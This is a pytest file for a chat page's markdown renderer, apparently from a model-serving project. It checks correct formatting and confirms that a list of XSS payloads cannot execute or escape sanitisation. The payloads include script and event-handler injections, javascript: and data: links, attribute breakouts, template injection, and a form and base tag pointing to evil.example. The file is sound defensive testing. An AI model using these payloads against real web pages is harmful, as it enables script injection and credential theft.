"""What the page makes of markdown, and what hostile output cannot make of the page."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from dsv4.text.tokenizer import Tokenizer

from tests.browser.page import Page
from tests.support.fake_engine import FakeEngine
from tests.support.serving import RunningServer, running


@pytest.fixture(scope="module")
def server(tokenizer: Tokenizer) -> Iterator[RunningServer]:
    with running(FakeEngine(tokenizer=tokenizer)) as server:
        yield server


@pytest.fixture
def shown(page: Page, server: RunningServer) -> Iterator[Page]:
    page.open(server.url)
    yield page
    page.driver.get("about:blank")


REL = 'target="_blank" rel="noopener noreferrer nofollow"'
CASES = [
    ("plain", "<p>plain</p>"),
    ("a\nb\n\nc", "<p>a<br>b</p><p>c</p>"),
    ("# Big #\n## Less", "<h3>Big</h3><h4>Less</h4>"),
    ("**a** *b* ***c*** __d__ _e_ ~~f~~", "<p><strong>a</strong> <em>b</em> <strong><em>c</em></strong> <strong>d</strong> <em>e</em> <del>f</del></p>"),
    ("**a *b***", "<p><strong>a <em>b</em></strong></p>"),
    ("snake_case_name 2*3*4 a * b", "<p>snake_case_name 2<em>3</em>4 a * b</p>"),
    ("`a*b*` ``x`y``", "<p><code>a*b*</code> <code>x`y</code></p>"),
    (r"\*no\* &lt;b&gt; &amp;", "<p>*no* &lt;b&gt; &amp;</p>"),
    ("- a\n- b\n  - c\n- d", "<ul><li>a</li><li>b<ul><li>c</li></ul></li><li>d</li></ul>"),
    ("3. a\n4. b\n   - c", '<ol start="3"><li>a</li><li>b<ul><li>c</li></ul></li></ol>'),
    ("1. a\n\n2. b", "<ol><li><p>a</p></li><li><p>b</p></li></ol>"),
    ("- [x] done\n- [ ] not", '<ul><li class="task"><input type="checkbox" disabled="" checked="" aria-label="done">done</li>'
     '<li class="task"><input type="checkbox" disabled="" aria-label="done">not</li></ul>'),
    ("> a\n> - b", "<blockquote><p>a</p><ul><li>b</li></ul></blockquote>"),
    ("a\n---\nb", "<p>a</p><hr><p>b</p>"),
    ("[t](https://a.b/c?d=1 \"x\")", f'<p><a href="https://a.b/c?d=1" {REL}>t</a></p>'),
    ("see https://a.b/c. <https://d.e>", f'<p>see <a href="https://a.b/c" {REL}>https://a.b/c</a>. <a href="https://d.e/" {REL}>https://d.e</a></p>'),
    ("![alt](https://a.b/i.png)", f'<p><a href="https://a.b/i.png" {REL}>alt</a></p>'),
    ("a [b] (c) ] [d", "<p>a [b] (c) ] [d</p>"),
    ("|a|b|\n|-|-:|\n|1|x\\|y|\n", '<div class="table" tabindex="0"><table><thead><tr><th>a</th><th class="right">b</th></tr></thead>'
     '<tbody><tr><td>1</td><td class="right">x|y</td></tr></tbody></table></div>'),
    ("```py\nprint('<b>')\n\n```\nafter", '<figure class="code"><figcaption><span>py</span><button type="button" class="quiet">Copy</button></figcaption>'
     "<pre tabindex=\"0\"><code>print('&lt;b&gt;')\n</code></pre></figure><p>after</p>"),
    ("~~~\n```\nopen", '<figure class="code"><figcaption><span></span><button type="button" class="quiet">Copy</button></figcaption>'
     '<pre tabindex="0"><code>```\nopen</code></pre></figure>'),
    ("**open\n\n*and `more", "<p>**open</p><p>*and `more</p>"),
]  # fmt: skip


def test_markdown(shown: Page) -> None:
    found = [(source, shown.render(source)) for source, _ in CASES]
    assert found == CASES


HOSTILE = [
    "<script>window.pwned = 1</script>",
    "<img src=x onerror='window.pwned = 1'>",
    "<svg/onload=window.pwned=1><iframe srcdoc='<script>parent.pwned=1</script>'>",
    "[x](javascript:window.pwned=1) [y](JaVaScRiPt&colon;alert(1)) [z](  java\nscript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>) [y](vbscript:x) [f](file:///etc/passwd) [w](blob:http://x/y)",
    "<javascript:alert(1)> <data:text/html,x> [a](//evil.example/x) [b](/dump) [c](#settings)",
    "![t](javascript:alert(1)) ![t](http://evil.example/track.png) <img src=http://evil.example/t>",
    "```<script>\n</code></pre><script>window.pwned=1</script>\n```",
    "```\" onmouseover=\"window.pwned=1\nx\n```",
    "|<b onclick=window.pwned=1>|\n|-|\n|<style>*{display:none}</style>|",
    "[t](http://a.b/\"onclick=\"window.pwned=1) [t](http://a.b/'><script>window.pwned=1</script>)",
    "# <h1 id=settings>\n- <form action=//evil.example><input name=key>",
    "<a href=javascript:window.pwned=1>x</a> <base href=//evil.example> <meta http-equiv=refresh content='0;url=//evil.example'>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt; &#60;script&#62; \u202e\u0000\ufeff\u2028<script>window.pwned=1</script>",
    "{{constructor.constructor('window.pwned=1')()}} ${window.pwned=1} __proto__ constructor",
    "3" * 400 + ". x\n- " * 40 + "<script>window.pwned=1</script>",
]  # fmt: skip
ELEMENTS = [
    "a",
    "blockquote",
    "br",
    "button",
    "code",
    "del",
    "em",
    "figcaption",
    "figure",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "input",
    "li",
    "ol",
    "p",
    "pre",
    "span",
    "strong",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "tr",
    "ul",
    "div",
]
ATTRIBUTES = {
    "class",
    "href",
    "target",
    "rel",
    "title",
    "tabindex",
    "type",
    "disabled",
    "checked",
    "aria-label",
    "start",
}


def test_hostile_output_is_text(shown: Page) -> None:
    everything = "\n\n".join([*HOSTILE, *(f"**{h}** `{h}` [{h}]({h}) > {h}" for h in HOSTILE)])
    for source in (*HOSTILE, everything):
        found = shown.driver.execute_async_script(
            """const done = arguments[1]; import('./page/markdown.js').then(({show}) => {
            const node = document.createElement('div'); document.body.append(node);
            for (let n = 1; n <= arguments[0].length; n += 7) show(node, arguments[0].slice(0, n));  // as a stream
            show(node, arguments[0]);
            const all = [...node.querySelectorAll('*')];
            done({elements: [...new Set(all.map(e => e.tagName.toLowerCase()))],
                  attributes: [...new Set(all.flatMap(e => e.getAttributeNames()))],
                  links: all.filter(e => e.href).map(e => e.href),
                  types: all.filter(e => e.tagName === 'INPUT').map(e => e.type), text: node.textContent}); node.remove() })""",
            source,
        )
        assert set(found["elements"]) <= set(ELEMENTS), source
        assert set(found["attributes"]) <= ATTRIBUTES, source
        assert all(link.startswith(("http://", "https://", "mailto:")) for link in found["links"]), found[
            "links"
        ]
        assert set(found["types"]) <= {"checkbox"}
    assert shown.js("return window.pwned ?? null") is None
    assert shown.outside() == []


def test_a_hostile_answer_changes_nothing(page: Page, tokenizer: Tokenizer) -> None:
    engine = FakeEngine(lambda prompt: "\n\n".join(HOSTILE), tokenizer=tokenizer)
    with running(engine) as server:
        page.open(server.url)
        page.fill(max_tokens="3000")
        page.say("Attack")
        assert page.js("return window.pwned ?? null") is None and page.outside() == []
        assert len(page.all("#settings")) == 1 and page.all("article.answer")
        page.reload()  # what is kept is shown by the same way
        assert page.js("return window.pwned ?? null") is None
        page.driver.get("about:blank")


def test_long_hostile_texts_are_rendered(shown: Page) -> None:
    """Each would take minutes if a search began anew at every character."""
    for piece in (
        "*a ",
        "[a",
        "`",
        "_a ",
        "![",
        "](",
        "<",
        "> ",
        "- ",
        "|",
        "http://a.",
        "~~a ",
        "\\",
        "a*",
        "**a* ",
    ):
        text = shown.driver.execute_async_script(
            "const done = arguments[2]; import('./page/markdown.js').then(({show}) => { const node = document.createElement('div');"
            "show(node, arguments[0].repeat(arguments[1])); done(node.textContent.length) })",
            piece,
            100_000 // len(piece),
        )
        assert text >= 0


def test_a_stream_gives_what_the_whole_gives(shown: Page) -> None:
    text = "\n\n".join(source for source, _ in CASES if not source.startswith("~~~"))
    streamed = shown.driver.execute_async_script(
        "const done = arguments[1]; import('./page/markdown.js').then(({show}) => { const node = document.createElement('div');"
        "for (let n = 1; n <= arguments[0].length; n++) show(node, arguments[0].slice(0, n)); done(node.innerHTML) })",
        text,
    )
    assert streamed == shown.render(text)
